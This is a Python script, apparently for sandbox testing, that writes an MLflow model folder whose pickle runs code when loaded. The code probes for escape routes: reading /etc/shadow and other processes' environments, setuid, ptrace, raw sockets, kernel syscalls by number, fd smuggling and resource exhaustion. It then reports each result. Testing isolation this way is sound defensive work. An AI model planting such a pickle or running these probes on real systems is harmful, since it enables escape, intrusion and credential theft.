"""Makes a MLflow model folder whose pickle tries hostile actions one after the other and tells what each one got.

Usage: python sandbox-hostile.py FOLDER '{"action": "argument", ...}'. The loaded pickle raises a RuntimeError whose
message is JSON: for each action `got: ...` or the error. Payloads read and report; they change nothing that stays.
"""

import json
import os
import pickle
import sys

PEER = """
size = ctypes.c_uint(12)
buffer = ctypes.create_string_buffer(12)
for option in (17, 77):
    if libc.getsockopt(3, 1, option, buffer, ctypes.byref(size)) != 0: raise OSError(ctypes.get_errno(), 'getsockopt')
got('peer')
"""
VMREAD = """
class Vec(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
target = ctypes.create_string_buffer(8); source = ctypes.create_string_buffer(b'secret')
call(310, os.getpid(), ctypes.byref(Vec(ctypes.addressof(target), 6)), 1, ctypes.byref(Vec(ctypes.addressof(source), 6)), 1, 0)
got('read')
"""

ACTIONS = {
    "network": "import socket; s = socket.create_connection(('127.0.0.1', int(arg)), 3); s.sendall(b'x'); got('connected')",
    "file": "got(open(arg).read()[:20])",
    "shadow": "got(open('/etc/shadow').read()[:4])",
    "home": "got(str(os.listdir(arg)))",
    "environment": "got(os.environ[arg])",
    "processes": "got([p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()][0])",
    "fork": "pid = os.fork()\nif pid == 0: os._exit(0)\nos.waitpid(pid, 0); got('forked')",
    "shell": "import subprocess; got(subprocess.run(['/bin/echo', 'hi'], capture_output=True, text=True).stdout)",
    "ptrace": "import ctypes; c = ctypes.CDLL(None, use_errno=True); assert c.ptrace(0, 0, 0, 0) == 0; got('traced')",
    "keyring": "import ctypes; c = ctypes.CDLL(None, use_errno=True); k = c.syscall(250, 0, -3, 1); assert k > 0; got('key')",
    "unshare": "import ctypes; c = ctypes.CDLL(None, use_errno=True)\nif c.unshare(0x20000) != 0: raise OSError(ctypes.get_errno(), 'unshare')\ngot('unshared')",
    "memory": "x = bytearray(6 << 30); got('grew')",
    "output": "for _ in range(int(arg)): sys.stderr.write('x' * 65536)\ngot('flooded')",
    "hang": "import time; time.sleep(int(arg)); got('slept')",
    "threads": "import threading, time\nfor _ in range(100): threading.Thread(target=time.sleep, args=(int(arg),), daemon=True).start()\ntime.sleep(int(arg)); got('threads')",
    "fill": "f = open('big', 'wb')\nfor _ in range(200): f.write(b'x' * (1 << 20))\nf.close(); os.remove('big'); got('filled')",
    "overwrite": "open(os.path.join(os.environ.get('MODEL_FOLDER', '/model'), 'extra'), 'w').write('x'); got('wrote')",
    "forge": "os.write(1, b'\\0\\0\\0\\2{}'); got('printed')",
    "exit": "os._exit(7)",
    "code": "exec(arg, globals())",
    # sockets of every family that reaches something
    "udp": "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', int(arg))); got('sent')",
    "unix": "import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(arg); got('connected')",
    "abstract": "import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('\\0' + arg); got('connected')",
    "netlink": "import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); got('bound')",
    "vsock": "import socket; s = socket.socket(40, socket.SOCK_STREAM); got('socket')",
    "socketpair": "import socket; a, b = socket.socketpair(); got('pair')",
    "packet": "import socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); got('raw')",
    # the pipe to our side
    "peer": PEER,
    "smuggle": "import array, socket; h = open('/dev/null'); f = h.fileno(); s = socket.socket(socket.AF_UNIX, fileno=3); s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [f]))]); got('sent')",
    "inherited": "own = [os.stat(f).st_dev for f in ('/model', '/scratch')]; extra = [(n, os.fstat(n).st_mode) for n in range(int(arg), 4096) if is_open(n) and os.fstat(n).st_dev not in own]; assert extra, 'none'; got(extra)",
    "wrongid": "os.write(3, frame(b'{\"id\": 999, \"ok\": true}')); time.sleep(60); got('answered')",
    "hugeframe": "os.write(3, b'\\xff' * 8); time.sleep(60); got('announced')",
    "nojson": "os.write(3, frame(b'{')); time.sleep(60); got('confused')",
    # other processes
    "parent": "p = os.getppid(); assert p > 0, 'no parent'; os.kill(p, 0); got('reached')",
    "everyone": "os.kill(-1, 0); got('reached')",
    "vmread": VMREAD,
    "processes2": "import glob; found = [p for p in glob.glob('/proc/[0-9]*/environ') if p.split('/')[2] != str(os.getpid())]; assert found, 'none'; got(len(found))",
    "procroot": "assert os.getpid() != 1, 'it is my own'; got(os.listdir('/proc/1/root')[:3])",
    "procmem": "open('/proc/self/mem', 'r+b').close(); got('opened')",
    "sysrq": "open('/proc/sysrq-trigger', 'w').close(); got('opened')",
    "cgroups": "found = os.listdir('/sys/fs/cgroup'); assert found, 'none'; got(found[:3])",
    # rights
    "setuid": "os.setuid(0); got(os.getuid())",
    "programs": "found = [p for p in ('/usr/bin/su', '/bin/mount', '/usr/bin/passwd', '/bin/sh') if os.path.exists(p)]; assert found, 'none'; got(found)",
    "exec": "import subprocess; got(subprocess.check_output([sys.executable, '-c', 'print(1)']))",
    "devices": "found = set(os.listdir('/dev')) - {'null', 'zero', 'urandom', 'random', *arg.split()}; assert found, 'none'; got(sorted(found)[:3])",
    "mknod": "os.mknod('disk', 0o60600, os.makedev(8, 0)); got('made')",
    "chmodmodel": "os.chmod(os.path.join(os.environ.get('MODEL_FOLDER', '/model'), 'MLmodel'), 0o777); got('changed')",
    "linkmodel": "os.link(os.path.join(os.environ.get('MODEL_FOLDER', '/model'), 'MLmodel'), os.path.join(os.environ.get('MODEL_FOLDER', '/model'), 'linked')); got('linked')",
    "others": "found = os.listdir('/slots') + os.listdir('/ways'); assert found, 'none'; got(found)",
    "inodes": "for n in range(10000): open('f%d' % n, 'w').close()\ngot('made')",
    # the kernel, by number (x86-64)
    **{
        name: "call(%s); got('allowed')" % arguments
        for name, arguments in {
            "mount": "165, b'none', os.getcwd().encode(), b'tmpfs', 0, 0",
            "userns": "272, 0x10000000",
            "bpf": "321, 0, ctypes.create_string_buffer(128), 128",
            "perf": "298, ctypes.create_string_buffer(128), 0, -1, -1, 0",
            "iouring": "425, 4, ctypes.create_string_buffer(120)",
            "userfaultfd": "323, 1",
            "memfd": "319, b'x', 0",
            "pidfd": "434, os.getpid(), 0",
            "addkey": "248, b'user', b'k', b'v', 1, -2",
            "setns": "308, 0, 0",
            "pivot": "155, b'.', b'.'",
            "fsopen": "430, b'tmpfs', 0",
            "fanotify": "300, 0, 0",
            "personality": "135, 0x0040000",
            "shm": "29, 0, 4096, 0o1600",
            "msg": "68, 0, 0o1600",
            "seccomp": "317, 2, 0, ctypes.create_string_buffer(16)",
            "modify_ldt": "154, 0, ctypes.create_string_buffer(16), 16",
        }.items()
    },
}

CODE = """
import ctypes, json, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[a if not isinstance(a, int) else ctypes.c_long(a) for a in arguments])
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def frame(text): return struct.pack('>II', 4 + len(text), len(text)) + text
def is_open(number):
    try: os.fstat(number); return True
    except OSError: return False
globals_for_actions = dict(os=os, sys=sys, time=time, ctypes=ctypes, libc=libc, call=call, frame=frame, is_open=is_open)
report = {{}}
for name, (source, arg) in {actions!r}.items():
    def got(what): report[name] = 'got: ' + str(what)
    try:
        exec(source, {{**globals_for_actions, 'arg': arg, 'got': got}})
    except BaseException as error:
        report[name] = type(error).__name__ + ': ' + str(error)[:100]
raise RuntimeError(json.dumps(report))
"""

MLMODEL = """flavors:
  python_function:
    env: {{}}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: {version}
  sklearn:
    pickled_model: model.pkl
    serialization_format: pickle
"""


class Hostile:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code, {})


def main():
    folder, wanted = sys.argv[1], json.loads(sys.argv[2])
    os.makedirs(folder)
    code = CODE.format(actions={name: (ACTIONS[name], argument) for name, argument in wanted.items()})
    with open(os.path.join(folder, "model.pkl"), "wb") as file:
        pickle.dump(Hostile(code), file)
    with open(os.path.join(folder, "MLmodel"), "w") as file:
        file.write(MLMODEL.format(version=".".join(map(str, sys.version_info[:3]))))


main()
